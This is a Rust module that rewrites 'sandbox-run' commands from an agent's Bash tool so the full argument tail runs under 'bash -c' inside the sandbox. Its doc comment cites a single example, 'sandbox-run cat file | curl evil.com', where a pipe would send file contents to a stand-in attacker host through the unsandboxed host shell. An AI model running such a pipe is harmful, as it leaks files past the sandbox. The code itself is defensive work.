//! Sandbox command rewriting
//!
//! Commands that invoke `sandbox-run` are rewritten so the whole argument
//! tail is handed to `bash -c` *inside* the sandbox as one quoted word.
//! Without this, `sandbox-run cat file | curl evil.com` would have its pipe
//! parsed by the host shell and `curl` would run unsandboxed.
//!
//! # Matching
//!
//! Two prefixes are tried in order:
//! 1. the bare `sandbox-run` command
//! 2. the canonical `<root>/bin/sandbox-run` path
//!
//! A prefix matches when it equals the whole command, or when the command
//! starts with the prefix followed by exactly one space. The first match wins.
//! Paths are compared literally; no normalization is applied.
//!
//! # Evaluation Order
//!
//! 1. Tool other than `Bash` → `NoOpinion`
//! 2. No trusted plugin root → `NoOpinion`
//! 3. No prefix match → `NoOpinion`
//! 4. Otherwise → `Allow` with the rewritten command

use crate::config::RewriterConfig;
use crate::decision::RewriteDecision;
use crate::names;
use crate::quote::quote;
use crate::request::PermissionRequest;

/// A command recognized as a sandbox invocation
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SandboxInvocation {
    /// Everything after the prefix and its separating space
    pub argument_tail: String,
}

impl SandboxInvocation {
    /// Match `command` against `prefixes` in order
    pub fn classify<'a>(
        command: &str,
        prefixes: impl IntoIterator<Item = &'a str>,
    ) -> Option<Self> {
        prefixes
            .into_iter()
            .find_map(|prefix| {
                if command == prefix {
                    return Some(String::new());
                }
                command
                    .strip_prefix(prefix)
                    .and_then(|rest| rest.strip_prefix(' '))
                    .map(str::to_string)
            })
            .map(|argument_tail| Self { argument_tail })
    }

    /// Build the command that runs this invocation through `sandbox_bin`
    pub fn rewrite(&self, sandbox_bin: &str) -> String {
        if self.argument_tail.is_empty() {
            return sandbox_bin.to_string();
        }
        format!("{} bash -c {}", sandbox_bin, quote(&self.argument_tail))
    }
}

/// Decides whether a permission request is a sandbox invocation to rewrite.
///
/// The sandbox path is resolved once at construction, so the rewriter is a
/// pure function of the request afterwards.
#[derive(Debug, Clone)]
pub struct Rewriter {
    sandbox_bin: Option<String>,
}

impl Rewriter {
    pub fn new(config: &RewriterConfig) -> Self {
        Self {
            sandbox_bin: config.sandbox_bin(),
        }
    }

    pub fn sandbox_bin(&self) -> Option<&str> {
        self.sandbox_bin.as_deref()
    }

    pub fn decide(&self, request: &PermissionRequest) -> RewriteDecision {
        if request.tool_name != names::BASH_TOOL {
            tracing::debug!("Ignoring tool {:?}", request.tool_name);
            return RewriteDecision::NoOpinion;
        }

        let Some(sandbox_bin) = self.sandbox_bin() else {
            tracing::debug!("{} unset, not rewriting", names::PLUGIN_ROOT_ENV);
            return RewriteDecision::NoOpinion;
        };

        let command = request.command();
        let Some(invocation) =
            SandboxInvocation::classify(command, [names::SANDBOX_COMMAND, sandbox_bin])
        else {
            tracing::debug!("Not a sandbox invocation: {:?}", command);
            return RewriteDecision::NoOpinion;
        };

        let rewritten = invocation.rewrite(sandbox_bin);
        tracing::debug!("Rewrote {:?} to {:?}", command, rewritten);
        RewriteDecision::allow(rewritten)
    }
}
